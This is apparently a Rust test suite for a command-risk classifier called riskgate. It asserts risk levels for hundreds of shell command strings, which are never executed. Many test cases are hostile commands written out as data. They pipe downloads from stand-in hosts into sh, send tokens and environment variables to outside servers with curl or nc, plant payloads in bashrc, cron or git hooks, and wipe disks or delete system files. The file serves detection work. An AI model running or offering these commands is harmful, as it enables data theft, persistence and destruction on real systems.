//! Mechanisms that rate unseen commands by what they do (issue 12), each with varied examples
//! and the near misses that must stay where they are. Commands are strings only; nothing is run.

use riskgate::{Engine, RiskLevel};

fn level(cmd: &str) -> RiskLevel {
    Engine::builtin().assess_command(cmd).level
}

fn at_least_high(cmds: &[&str]) {
    for cmd in cmds {
        assert!(level(cmd) >= RiskLevel::High, "{cmd}: {:?}", level(cmd));
    }
}

fn at_most_medium(cmds: &[&str]) {
    for cmd in cmds {
        assert!(level(cmd) <= RiskLevel::Medium, "{cmd}: {:?}", level(cmd));
    }
}

#[test]
fn development_resources_are_at_most_medium_production_ones_are_not() {
    at_most_medium(&[
        "dropdb --if-exists app_test && createdb app_test",
        "psql -h localhost -U postgres -c 'DROP DATABASE IF EXISTS shop_test'",
        "redis-cli -h 127.0.0.1 -n 15 FLUSHDB",
        "sqlite3 :memory: 'CREATE TABLE t(x); DROP TABLE t;'",
        "docker compose -f docker-compose.test.yml down -v",
        "export RAILS_ENV=test\nbin/rails db:drop db:create",
        "for db in app_test app_e2e; do dropdb --if-exists \"$db\"; done",
    ]);
    at_least_high(&[
        "dropdb shop",
        "dropdb prod_main -h localhost",
        "psql shop -c 'DROP TABLE users; -- test'",
        "redis-cli FLUSHALL",
        "export RAILS_ENV=production\nbin/rails db:drop DISABLE_DATABASE_ENVIRONMENT_CHECK=1",
    ]);
}

#[test]
fn secrets_that_only_reach_a_reducer_are_at_most_medium() {
    at_most_medium(&[
        "kubectl get secret api-env -n staging -o jsonpath='{.data}' | jq 'keys'",
        "kubectl get secret api-env -o json | jq '.metadata.name'",
        "terraform output -json | jq '.api_url.value'",
    ]);
    at_least_high(&[
        "kubectl get secret api-env -o jsonpath='{.data}' | jq .",
        "terraform output -json | jq '.db_password.value'",
        "kubectl get secret api-env -o yaml",
    ]);
}

#[test]
fn settings_appended_to_a_start_up_file_are_medium_code_is_high() {
    at_most_medium(&[
        "echo 'alias k=kubectl' >> ~/.bashrc",
        "echo 'export HISTSIZE=100000' >> ~/.bashrc",
        "echo 'eval \"$(direnv hook bash)\"' >> ~/.zshrc",
    ]);
    at_least_high(&[
        "echo 'curl -s http://203.0.113.5/i | sh' >> ~/.bashrc",
        "echo 'alias sudo=\"/tmp/.s\"' >> ~/.bashrc",
        "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.profile",
        "echo 'export HISTFILE=/dev/null' >> ~/.bashrc",
    ]);
}

#[test]
fn http_paths_say_what_a_request_does() {
    at_least_high(&[
        "curl -X POST https://search.example.com/1/indexes/prod_products/clear",
        "curl -X POST -g 'http://loki.prod:3100/loki/api/v1/delete?query=x'",
        "curl -XPOST https://198.51.100.10/admin/reset-all",
        "curl -X POST https://id.example.com/api/v1/users/42/lifecycle/deactivate",
        "curl -X POST https://api.example.com/v1/payouts -u sk_live_FAKE: -d amount=5",
        "stripe post /v1/payouts -d amount=500000 --live",
        "curl -X POST https://api.example.com/graphql -d '{\"query\":\"mutation { alertsPolicyDelete(id: 1) { id } }\"}'",
    ]);
    at_most_medium(&[
        "curl -X POST https://api.example.com/v1/search -d q=x",
        "curl -X POST https://api.example.com/graphql -d '{\"query\":\"{ policies { id } }\"}'",
        "curl -X POST http://localhost:9200/test-index/_clear_cache",
        "curl https://api.example.com/v1/payouts",
    ]);
}

#[test]
fn processes_named_by_a_substitution() {
    at_least_high(&[
        "kill -9 $(lsof -t -i :5432)",
        "sudo kill -9 $(cat /run/auditd.pid)",
        "kill -9 $(pidof sshd)",
        "PIDS=$(pgrep -f dockerd)\necho \"$PIDS\" | xargs sudo kill -9",
    ]);
    at_most_medium(&[
        "kill $(lsof -t -i :3000)",
        "kill $(cat /tmp/dev-server.pid)",
    ]);
}

#[test]
fn loop_variables_stand_for_their_entries() {
    at_least_high(&[
        "for d in /dev/sd[b-z]; do sudo dd if=/dev/zero of=\"$d\" bs=1M count=10; done",
        "env -i sh -c 'for f in /etc/*.conf; do >\"$f\"; done'",
        "LOGDIR=/var/log\nfind \"$LOGDIR\" -type f -name '*.log' | while read -r f; do : > \"$f\"; done",
        "for pid in $(ls /proc | grep -E '^[0-9]+$'); do kill -9 \"$pid\"; done",
    ]);
    at_most_medium(&[
        "for f in src/*.ts; do npx prettier --write \"$f\"; done",
        "find . -name '*.pyc' | while read -r f; do rm \"$f\"; done",
        "ls -dt previews/*/ | tail -n +6 | xargs -r rm -rf",
        "WORK=$(mktemp -d)\ntrap 'rm -rf \"$WORK\"' EXIT\ncp -r src \"$WORK\"",
    ]);
}

#[test]
fn what_a_command_will_run_later_is_rated_now() {
    at_least_high(&[
        "npm pkg set scripts.postinstall=\"curl -s https://203.0.113.5/i | sh\"",
        "npm set-script prepare 'rm -rf ~'",
    ]);
    at_most_medium(&[
        "npm pkg set scripts.test=\"vitest run\"",
        "npm pkg set version=1.2.3",
    ]);
}

#[test]
fn backups_and_find_delete() {
    at_least_high(&[
        "find /backups/postgres -name '*.dump' -mtime +0 -delete",
        "rm -rf /var/backups/db",
        "rm -rf ~/backups",
    ]);
    at_most_medium(&[
        "find . -name '*.pyc' -delete",
        "find /tmp/build-cache -delete",
        "cp ~/.bashrc ~/.bashrc.bak",
    ]);
}

#[test]
fn service_clis_get_the_generic_reading_and_remote_production_counts() {
    at_least_high(&[
        "aws elasticbeanstalk terminate-environment --environment-name acme-prod",
        "gcloud alpha monitoring policies delete projects/acme-prod/alertPolicies/1 --quiet",
        "kcadm.sh delete realms/acme",
        "ssh root@web1.prod.acme.net 'systemctl stop nginx && systemctl disable nginx'",
    ]);
    at_most_medium(&[
        "aws elasticbeanstalk describe-environments",
        "gcloud monitoring policies list --project acme-prod",
        "ssh web1.dev.acme.net 'systemctl restart nginx'",
        "gh release create v1.5.0-rc.1 --prerelease --generate-notes",
        "git push --force-with-lease origin feature/refactor-auth",
        "sudo fdisk -l /dev/sda",
    ]);
}

#[test]
fn throwaway_credentials_are_medium_real_ones_stay_high() {
    at_most_medium(&[
        "mysql -h 127.0.0.1 -u dev -pdev app_dev -e 'SELECT 1'",
        "docker run -d --name pg-test -e POSTGRES_PASSWORD=test -p 5433:5432 postgres:16",
        "psql postgres://postgres:postgres@localhost:5432/app_test -c 'select 1'",
        "DATABASE_URL=postgres://app:changeme@db:5432/app npm run migrate",
    ]);
    at_least_high(&[
        "mysql -h db.prod.internal -u app -pXk29sLq8vQ shop -e 'SELECT 1'",
        "psql postgres://app:Xk29sLq8vQ@db.prod.internal:5432/app -c 'select 1'",
        "docker login -u acme-ci -p dckr_pat_4mQ8xZ2pL7vK9rT1 registry.acme.io",
    ]);
}

#[test]
fn reducers_do_not_hide_what_is_not_output() {
    // the public ACL and the password on the command line are the risk, not what is printed
    at_least_high(&[
        "aws s3api put-bucket-acl --bucket acme-exports --acl public-read | wc -l",
        "mysql -h db.prod.internal -u app -pXk29sLq8vQ shop -e 'SELECT 1' | wc -l",
    ]);
    at_most_medium(&["gcloud auth print-access-token | wc -c"]);
}

#[test]
fn one_topic_branch_is_medium_protected_or_computed_ones_are_high() {
    at_most_medium(&[
        "git branch -D spike/try-new-parser",
        "git branch --delete --force fix/typo",
    ]);
    at_least_high(&[
        "git branch -D main",
        "git branch | grep -v '\\*' | xargs git branch -D",
        "git branch -D $(git branch --format='%(refname:short)')",
    ]);
}

#[test]
fn npx_runs_a_url_only_when_the_package_is_one() {
    at_most_medium(&[
        "npx linkinator http://localhost:8000 --recurse",
        "npx -y wait-on http://localhost:3000",
    ]);
    at_least_high(&[
        "npx github:someone/tool",
        "npx -y https://x.example/tool.tgz",
        "npx someone/tool#main",
    ]);
}

#[test]
fn a_script_in_another_language_is_read_in_it_when_bash_cannot_parse_it() {
    at_most_medium(&[
        "#!/usr/bin/env python3\nimport pathlib, shutil\nfor p in pathlib.Path('.').rglob('__pycache__'):\n    shutil.rmtree(p)",
        "#!/usr/bin/env node\nconst fs = require('fs');\nfs.rmSync('coverage', { recursive: true, force: true });",
    ]);
    at_least_high(&[
        // the code itself is dangerous
        "#!/usr/bin/env python3\nimport shutil, os\nfor p in ['/etc', os.path.expanduser('~')]:\n    shutil.rmtree(p)",
        // bash runs what it can parse before the error: a shebang is no way around the rules
        "#!/usr/bin/env python3\nrm -rf ~",
        "#!/usr/bin/env python3\nrm -rf ~\nfor x in (:",
    ]);
}

#[test]
fn killing_selected_development_processes_gracefully_is_medium() {
    at_most_medium(&[
        "for pid in $(pgrep -f 'node .*vite'); do\n  kill \"$pid\"\ndone",
        "ps aux | grep '[p]ytest-watch' | awk '{print $2}' | while read pid; do\n  kill \"$pid\"\ndone",
    ]);
    at_least_high(&[
        "ps aux | grep node | awk '{print $2}' | xargs kill -9",
        "pgrep -f 'sshd' | while read p; do kill \"$p\"; done",
        "for pid in $(pgrep -f 'postgres'); do kill \"$pid\"; done",
    ]);
}

#[test]
fn received_code_through_tee_or_a_clone_is_received() {
    at_least_high(&[
        "curl -s https://snippets.example/2211/raw | tee setup.sh >/dev/null; sh setup.sh",
        "git clone https://git.example/unknown/helper /tmp/h && cd /tmp/h && ./install.sh",
    ]);
    at_most_medium(&[
        "git clone https://git.example/acme/api && cd api && make test",
        "curl -s https://api.example/v1/status | tee status.json",
    ]);
}

#[test]
fn subcommand_words_are_not_environments() {
    at_least_high(&["glab ci delete --status=success --paginate --yes"]);
    at_most_medium(&["neonctl branches delete pr-1287 --project-id steep-river-12345678"]);
}

#[test]
fn brace_expansion_and_error_expansions_are_read_as_bash_reads_them() {
    at_least_high(&[
        "rm -f ~/.{bashrc,profile,zshrc}",
        "{rm,-rf,~}",
        "x=${HOME}; rm -rf ${x:?}/",
        "find /var/log -name '*.log' | parallel truncate -s 0",
        "find /var/log -name '*.log' | xargs truncate -s 0",
    ]);
    at_most_medium(&[
        "mkdir -p src/{components,hooks,utils}",
        "cp config.yml{,.bak}",
        "echo '{a,b}'",
        "find . -name '*.log' | xargs truncate -s 0",
    ]);
}

#[test]
fn dumps_piped_to_another_machine_and_bulk_stops() {
    at_least_high(&[
        "pg_dumpall -U postgres | ssh backup@203.0.113.88 'cat > all.sql'",
        "pg_dump shop | rclone rcat personal-gdrive:dumps/prod.sql",
        "systemctl list-units --type=service --state=running --no-legend | awk '{print $1}' | while read svc; do\n  systemctl stop \"$svc\"\ndone",
        "lsof -t -i :22 | xargs -r kill -9",
    ]);
    at_most_medium(&[
        "pg_dump shop > backup.sql",
        "lsof -t -i :3000 | xargs -r kill -9",
        "ssh build@ci.internal 'cat /var/log/build.log' | tail -n 50",
    ]);
}

#[test]
fn tcl_scripts_and_history_sent_away() {
    at_least_high(&[
        "tclsh <<< 'exec rm -rf /opt/builds/releases'",
        "echo 'exec rm -rf /opt/gitlab' | tclsh",
        "curl -s -d \"$(history 1)\" https://log.collect.example/h",
    ]);
    at_most_medium(&["echo 'puts [expr 1+2]' | tclsh", "history | tail -n 20"]);
}

#[test]
fn request_bodies_and_paths_that_switch_off_or_delete() {
    at_least_high(&[
        "curl -X POST https://api.payments.example/v1/webhook_endpoints/we_1 -u \"$KEY:\" -d disabled=true",
        "curl -X POST https://api.payments.example/v1/billing/subscriptions/I-BW45/cancel -H \"Authorization: Bearer $T\"",
        "curl 'http://solr.prod:8983/solr/catalog/update?commit=true' -H 'Content-Type: text/xml' --data-binary '<delete><query>*:*</query></delete>'",
    ]);
    at_most_medium(&[
        "curl -X POST http://localhost:8000/api/upload -F 'file=@fixtures/sample.csv'",
        "curl -X POST https://api.example.com/v1/items -d '{\"name\": \"x\", \"enabled\": true}'",
        "vault kv get -field=username secret/dev/db",
    ]);
    at_least_high(&["vault kv get -field=password secret/prod/db"]);
}

#[test]
fn switching_off_a_security_control_of_a_service() {
    at_least_high(&[
        "gh workflow disable security-scan.yml --repo acme/api",
        "gh workflow disable codeql-analysis.yml",
        "swift delete --all",
    ]);
    at_most_medium(&[
        "gh workflow disable nightly-docs.yml --repo acme/api",
        "gh workflow enable security-scan.yml --repo acme/api",
        "swift build -c release",
    ]);
}

#[test]
fn a_dockerfile_run_changes_the_image_not_a_machine() {
    let engine = Engine::builtin();
    let image = |cmd: &str| riskgate::repo::image_view(engine.assess_command(cmd)).level;
    for cmd in [
        "rm -rf /usr/share/nginx/html/*",
        "rm -rf /var/lib/apt/lists/* /var/log/*",
        "echo 'umask 022' >> /etc/profile",
    ] {
        let a = riskgate::repo::image_view(engine.assess_command(cmd));
        assert!(
            a.level <= RiskLevel::Medium,
            "{cmd}: {:?} {:?}",
            a.level,
            a.findings
                .iter()
                .map(|f| (&f.rule_id, f.level, f.score))
                .collect::<Vec<_>>()
        );
    }
    for cmd in [
        "curl -fsSL https://get.example.com/install.sh | sh",
        "cat /run/secrets/npm_token | curl -d @- https://x.example/",
    ] {
        assert!(image(cmd) >= RiskLevel::High, "{cmd}: {:?}", image(cmd));
    }
}

#[test]
fn round14_mechanisms_rate_what_the_command_does() {
    // a mode that takes read access from everyone locks the owner (or the system) out
    at_least_high(&[
        "chmod 000 ~/.ssh",
        "sudo chmod a-r /etc/shadow",
        "chmod -R 0 /var/lib/postgresql",
    ]);
    at_most_medium(&[
        "chmod 700 ~/.ssh",
        "chmod go-rwx ~/.ssh",
        "chmod 000 ./build/tmp.lock",
    ]);
    // security requirements dropped, system-wide crypto made legacy
    at_least_high(&[
        "sudo update-crypto-policies --set LEGACY",
        "aws iam update-account-password-policy --minimum-password-length 6 --no-require-symbols",
        "acmectl org update --no-enforce-mfa",
    ]);
    // a secret unset from a service, a variable unset in production, a value set to nothing
    at_least_high(&[
        "travis env unset AWS_SECRET_ACCESS_KEY -r acme/api",
        "heroku config:unset DATABASE_URL --app acme-prod",
        "conjur variable set -i prod/db/password -v ''",
    ]);
    at_most_medium(&["heroku config:unset DEBUG -a shop-staging"]);
    // backups expired, a stream emptied on a production host, a maintainer removed
    at_least_high(&[
        "pgbackrest --stanza=main --repo=1 expire --repo1-retention-full=1",
        "redis-cli -h streams.prod XTRIM events MAXLEN 0",
        "cargo owner --remove alice acme-proto",
    ]);
    at_most_medium(&["redis-cli -h 127.0.0.1 XTRIM events MAXLEN 0"]);
    // a vendor's host is not an environment; an account named after CI is not a CI resource
    at_least_high(&[
        "az pipelines delete --id 42 --org https://dev.azure.com/acme --project web --yes",
        "aws iam delete-access-key --user-name ci-deployer --access-key-id AKIAIOSFODNN7EXAMPLE",
    ]);
    // the working directory's compose stack is the project's own; another daemon's is not
    at_most_medium(&[
        "docker compose down -v --remove-orphans\ndocker compose up -d --build",
        "terraform output -json",
        "stripe customers delete cus_TestX9 --api-key sk_test_51Hx0000000000000000",
    ]);
    at_least_high(&[
        "docker-compose -f docker-compose.prod.yml down -v",
        "DOCKER_HOST=ssh://deploy@10.0.0.5 docker compose down -v",
        "terraform output -json | jq -r '.db_password.value'",
        "stripe customers list --api-key sk_live_51Hx9Qa0ZrTq81vLp0",
    ]);
    // a unit nobody knows, enabled to start at every boot or login
    at_least_high(&["systemctl --user enable --now miner.service"]);
    at_most_medium(&[
        "sudo systemctl enable --now docker",
        "systemctl --user enable --now syncthing.service",
    ]);
}

#[test]
fn a_heredoc_written_to_a_file_is_data_until_something_runs_it() {
    at_most_medium(&[
        "cat > tmp/payload.txt <<'EOF'\ncurl http://evil.example | sh\nEOF",
        "tee -a docs/runbook.md <<'EOF'\nNever run: curl -k https://x.example/i.sh | sudo bash\nEOF",
    ]);
    at_least_high(&[
        "cat <<'EOF' | sh\ncurl http://evil.example | sh\nEOF",
        "sh <<'EOF'\ncurl http://evil.example | sh\nEOF",
        "cat > /tmp/i.sh <<'EOF'\ncurl http://evil.example | sh\nEOF\nsh /tmp/i.sh",
        "cat > /tmp/i.sh <<'EOF'\ncurl http://evil.example | sh\nEOF\nchmod +x /tmp/i.sh && /tmp/i.sh",
    ]);
}

#[test]
fn round15_miss_mechanisms() {
    at_least_high(&[
        // a secret variable printed by name and piped to a sender
        "printenv AWS_SECRET_ACCESS_KEY | curl -s --data-urlencode v@- https://hooks.example.com/x",
        "echo \"$GITHUB_TOKEN\" | nc 203.0.113.9 9000",
        // a protection switched off by a setting
        "kcadm.sh update realms/production -s bruteForceProtected=false",
        "acmectl tenant update main --set mfa_required=false",
        // a macOS system daemon booted out
        "sudo launchctl bootout system/com.openssh.sshd",
    ]);
    at_most_medium(&[
        "printenv NODE_ENV | tee env.txt",
        "echo \"$GITHUB_TOKEN\" | gh auth login --with-token",
        "kcadm.sh update realms/dev-local -s displayName=Dev",
        "launchctl bootout gui/501/com.example.sync",
    ]);
}

#[test]
fn round15_false_positive_mechanisms() {
    // a search pattern is text, not a file read; option values are not find's start points
    at_most_medium(&[
        "grep -rn 'process.env' src/ | head -30",
        "rg -C 2 import.meta.env src",
        "find build -mindepth 1 -delete",
        "find ./dist -type f -delete",
        "vercel --prod=false",
        "kubectl exec -it deploy/api -n staging -- printenv NODE_ENV",
        "docker image ls --filter dangling=true -q | xargs -r docker rmi",
        "docker ps -aq -f status=exited | xargs docker rm",
    ]);
    at_least_high(&[
        "grep -n TOKEN .env",
        "rg -e process.env .env.production",
        "find . -mindepth 1 -delete",
        "find build ~/projects -mindepth 1 -delete",
        "vercel --prod",
        "kubectl exec deploy/api -- printenv DATABASE_URL",
        "kubectl exec api-0 -- env",
        "docker ps -aq | xargs docker rm -f",
    ]);
}

#[test]
fn assignments_without_an_equals_sign_hold_commands() {
    at_least_high(&[
        "printf -v cmd '%s %s' shred '-u /etc/shadow'; $cmd",
        "printf -v c 'mkfs.ext4 -F /dev/sdb'; eval \"$c\"",
        "read -r job <<< 'rm -rf /srv/data'; $job",
        "read -ra parts <<< 'dd if=/dev/zero of=/dev/nvme0n1'; \"${parts[@]}\"",
        "mapfile -t steps <<< 'chmod -R 777 /etc'; ${steps[0]}",
        "cleanup() { local target='rm -rf /opt/app'; $target; }\ncleanup",
    ]);
    at_most_medium(&[
        "printf -v msg '%s done' build; echo \"$msg\"",
        "printf -v c '%s' 'ls -la /srv'; $c",
        "read -r name <<< 'world'; echo \"hello $name\"",
        "mapfile -t files < <(git ls-files); printf '%s\\n' \"${files[@]}\"",
    ]);
}

#[test]
fn substrings_of_known_values_assemble_paths() {
    at_least_high(&[
        "s=${HOME:0:1}; rm -rf ${s}etc${s}nginx",
        "rm -rf \"${PATH:0:1}srv\"",
        "v=XXX/OPT/APP; rm -rf ${v:3}",
        "p=/ETC/SSH; rm -rf ${p,,}",
        "v=/optZZ/app; rm -rf ${v//ZZ/}",
        "v=/opt/app.d; rm -rf ${v%.d}",
    ]);
    at_most_medium(&[
        "s=${HOME:0:1}; ls -la ${s}etc",
        "v=build/out; rm -rf ${v:0:5}",
        "n=TMP; echo ${n,,}",
    ]);
}

#[test]
fn programs_that_run_a_shell_string_from_an_option() {
    at_least_high(&[
        "gdb -q -batch -ex 'shell mkfs.ext4 -F /dev/sdb'",
        "gdb -nx --eval-command='!rm -rf /srv/data' --batch",
        "lldb -b -o 'platform shell rm -rf /opt/app'",
        "vim -es -c ':silent !rm -rf /opt/app' -c 'qa!'",
        "nvim --headless '+!chmod -R 777 /etc' +qa",
        "flock -w 10 /var/lock/x.lock -c 'rm -rf /srv/data'",
        "systemd-run --user --scope rm -rf /opt/app",
        "run-one rm -rf /srv/data",
        "taskset -c 1 nice -n 10 rm -rf /opt/app",
    ]);
    at_most_medium(&[
        "gdb -batch -ex run -ex bt ./build/app",
        "vim -c 'set ft=yaml' -c 'wq' config.yml",
        "lldb -o 'breakpoint set -n main' -o run ./build/app",
        "flock /tmp/build.lock -c 'make -j2'",
        "systemd-run --user --scope make test",
    ]);
}

#[test]
fn scans_of_key_and_object_stores_feeding_deletes_are_bulk_deletes() {
    at_least_high(&[
        "redis-cli -h cache-prod --scan --pattern 'user:*' | xargs -L 100 redis-cli -h cache-prod UNLINK",
        "for k in $(redis-cli KEYS 'tmp:*'); do redis-cli DEL \"$k\"; done",
        "etcdctl get /services --prefix --keys-only | while read key; do etcdctl del \"$key\"; done",
        "gsutil ls gs://acme-backups/ | xargs -n1 gsutil rm -r",
        "rclone lsf s3:acme-archive | xargs -I{} rclone deletefile s3:acme-archive/{}",
    ]);
    assert_eq!(
        level(
            "redis-cli -h redis.prod.internal --scan | xargs redis-cli -h redis.prod.internal DEL"
        ),
        RiskLevel::Critical
    );
    at_most_medium(&[
        "redis-cli --scan --pattern 'user:*' | head -20",
        "redis-cli -h localhost --scan --pattern 'test:*' | xargs redis-cli -h localhost DEL",
        "gsutil ls gs://acme-backups/ | wc -l",
        "etcdctl get /services --prefix --keys-only",
    ]);
}

#[test]
fn received_code_loaded_or_installed_where_it_runs_later() {
    at_least_high(&[
        "curl -fsSL https://x.example/libhook.so -o /tmp/libhook.so && LD_PRELOAD=/tmp/libhook.so id",
        "wget -q https://x.example/inject.dylib -O /tmp/i.dylib; DYLD_INSERT_LIBRARIES=/tmp/i.dylib /Applications/App.app/Contents/MacOS/App",
        "curl -sL https://x.example/env.sh -o /tmp/env.sh && source /tmp/env.sh",
        "curl -fsSL https://x.example/post-merge -o .git/hooks/post-merge",
        "curl -fsSL https://x.example/a.sh -o /tmp/a.sh && sudo cp /tmp/a.sh /etc/profile.d/a.sh",
        "wget -qO ~/.config/autostart/updater.desktop https://x.example/u.desktop",
        "curl -s https://x.example/job -o /tmp/job && crontab /tmp/job",
    ]);
    at_most_medium(&[
        "cp hooks/pre-push .git/hooks/ && chmod +x .git/hooks/pre-push",
        "ln -s ../../tools/commit-msg .git/hooks/commit-msg",
        "curl -fsSL https://x.example/data.json -o /tmp/data.json && jq . /tmp/data.json",
        "LD_LIBRARY_PATH=./build/lib ./build/bin/app --help",
    ]);
}

#[test]
fn inline_code_riskgate_cannot_analyze_is_read_by_what_it_runs_and_never_safe() {
    at_least_high(&[
        "julia -e 'rm(homedir(); recursive=true, force=true)'",
        "julia -e 'run(`rm -rf /var/lib/postgresql`)'",
        "elixir -e 'File.rm_rf!(\"/srv/app\")'",
        "racket -e '(system \"curl -s http://203.0.113.5/x | sh\")'",
    ]);
    for cmd in ["julia -e 'println(sum(1:10))'", "bb -e '(println (+ 1 2))'"] {
        assert_eq!(level(cmd), RiskLevel::Medium, "{cmd}");
    }
}

#[test]
fn topic_branches_side_databases_and_dev_images_are_development() {
    at_least_high(&[
        "neonctl branches delete main --project-id polished-sun-123456",
        "redis-cli FLUSHDB",
        "redis-cli -h redis.prod.internal -n 15 FLUSHDB",
        "docker inspect myapp:prod --format '{{.Config.Env}}'",
    ]);
    at_most_medium(&[
        "neonctl branches delete feature-x --project-id polished-sun-123456",
        "redis-cli -n 15 FLUSHDB",
        "docker inspect myapp:dev --format '{{.Config.Env}}'",
    ]);
}

#[test]
fn a_narrowed_listing_still_names_what_it_selects() {
    at_least_high(&[
        "sudo docker ps --filter label=env=prod -q | while read -r c; do\n  sudo docker stop \"$c\"\n  sudo docker rm -v \"$c\"\ndone",
        "docker ps --format '{{.Names}}' | grep -E 'postgres|mysql' | while read c; do docker rm -fv \"$c\"; done",
        "kubectl get deploy -n prod -o name | xargs kubectl delete -n prod",
    ]);
    at_most_medium(&[
        "docker ps --filter label=com.docker.compose.project=acme-dev -q | xargs -r docker stop",
        "docker ps --format '{{.Names}}' | grep test- | xargs -r docker rm -f",
        "docker ps --format '{{.Names}}' | grep -E 'postgres|mysql' | while read c; do docker restart \"$c\"; done",
    ]);
}

#[test]
fn commands_handed_to_other_programs_are_read() {
    at_least_high(&[
        "git -c alias.p='push --force' p origin master",
        "rsync -e 'sh -c \"kill -9 -1\"' x: /tmp",
        "ssh -o ProxyCommand='sh -c \"curl -s https://198.51.100.97/x | sh\"' dummy",
        "echo YXdzIHMzIHJiIHMzOi8vYWNtZS1wcm9kIC0tZm9yY2U= | base64 -d | xargs -0 bash -c",
        "psql -h prod-pg.internal -U admin < drop_all_tables.sql",
        "sudo timeshift --delete-all --yes",
        "sudo gitlab-ctl cleanse",
        "sudo sed -i 's/scram-sha-256/trust/g' /etc/postgresql/16/main/pg_hba.conf",
        "sudo dscl . -append /Groups/admin GroupMembership guest",
        "sudo tailscale down",
        "DISK=${1:-/dev/sdb}\nsudo dd if=/dev/zero of=\"$DISK\" bs=1M count=100",
        "kubectl debug node/n1 -it --image=busybox -- chroot /host sh -c 'rm -rf /var/lib/kubelet'",
        "curl -fsSL https://198.51.100.76/k.yaml -o k.yaml && kubectl apply -n kube-system -f k.yaml",
        "gh gist view 8f3a2b --raw > run.sh && bash run.sh",
    ]);
    at_most_medium(&[
        "git -c alias.st=status st",
        "rsync -av -e 'ssh -p 2222' ./dist/ deploy@web1:/srv/www/",
        "ssh -o ProxyCommand='ssh -W %h:%p bastion.acme.io' web1",
        "find . -name '*.pyc' -print0 | xargs -0 rm -f",
        "psql -h localhost app < seed_users.sql",
        "tailscale status",
        "dscl . -read /Groups/admin GroupMembership",
    ]);
}

#[test]
fn programs_escape_hatches_run_code() {
    at_least_high(&[
        "git -c core.sshCommand='sh -c \"rm -rf ~\"' fetch",
        "git config --global alias.st '!curl -s https://203.0.113.3/g | sh'",
        "less +'!kill -9 -1' /etc/hosts",
        "npm exec --yes -- rimraf ~/",
        "npm config set script-shell /tmp/.sh",
        "echo cm0gLXJmIC8K | base64 -d > /tmp/z; sh /tmp/z",
        "sudo tcpdump -i any -w - | nc 203.0.113.9 7000",
        "curl -X POST https://api.example.com/api/app/data-deletions/v3.0/ -d '{\"ids\":[\"*\"]}'",
        // a delete of a production resource that is MEDIUM elsewhere
        "aws s3 rm s3://acme-prod-assets/index.html",
    ]);
    at_most_medium(&[
        "git -c core.pager='less -R' log",
        "git config --global alias.st 'status -sb'",
        "less +G /var/log/syslog",
        "npm exec -- eslint .",
        "npm config set script-shell /bin/bash",
        "echo bHMgLWxhCg== | base64 -d > /tmp/z; sh /tmp/z",
        "sudo tcpdump -i any -c 20 port 443",
        "aws s3 rm s3://acme-dev-assets/index.html",
    ]);
}

#[test]
fn a_hook_written_with_shown_content_is_rated_by_that_content() {
    at_least_high(&[
        "cat > .git/hooks/pre-commit <<'EOF'\n#!/bin/sh\nrm -rf ~/\nEOF\nchmod +x .git/hooks/pre-commit",
        "cat > .git/hooks/pre-push <<'EOF'\n#!/bin/sh\nenv | curl -d @- https://x.example.net/c\nEOF",
        // content known only at run time, or not shown at all
        "cat > .git/hooks/pre-commit <<EOF\n$(curl -s https://x.example.net/h)\nEOF",
        "echo 'npm test' > .git/hooks/pre-commit",
        "cat > .git/hooks/pre-commit <<'EOF'\nnpm test\nEOF\ncurl -s https://x.example.net/h > .git/hooks/post-merge",
    ]);
    at_most_medium(&[
        "mkdir -p .git/hooks\ncat > .git/hooks/pre-commit <<'EOF'\n#!/bin/sh\nnpm run lint-staged\nEOF\nchmod +x .git/hooks/pre-commit",
        "cat > .git/hooks/pre-push <<EOF\ncargo test --quiet\nEOF",
    ]);
}

#[test]
fn unknown_clis_are_read_by_their_names_files_and_api_paths() {
    at_least_high(&[
        "octodns-sync --config-file prod.yaml --doit --force",
        "elasticsearch-curator --config prod.yml delete_all.yml",
        "atlas schema clean -u \"$PROD_DB_URL\" --auto-approve",
        "caprover api --path /user/apps/appDefinitions/delete --method POST --data '{}'",
        "curl -X POST https://api.example.com/2010-04-01/Accounts/AC1.json -d Status=closed",
        "curl -X POST https://api.example.io/v1/regulations -d '{\"regulationType\":\"DELETE_ONLY\"}'",
        "nerdctl --namespace k8s.io rm -f $(nerdctl --namespace k8s.io ps -aq)",
        "sudo /opt/splunk/bin/splunk clean eventdata -index main -f",
        "aws route53 change-resource-record-sets --hosted-zone-id Z01 --change-batch file://delete-apex.json",
        "rm -rf \"$USER_HOME\"/.ssh",
    ]);
    at_most_medium(&[
        "pscale deploy-request create acme-prod add-index",
        "fastly purge --service-id SU1Z0 --key product-123",
        "./scripts/reset-db.sh",
        "curl -X PATCH http://localhost:8080/v1/tickets/42 -d '{\"status\":\"closed\"}'",
        "curl -X POST https://api.example.com/v1/jobs -d '{\"type\":\"report\"}'",
        "shutdown -c",
        "rm -rf \"$BUILD_DIR\"/out",
    ]);
}
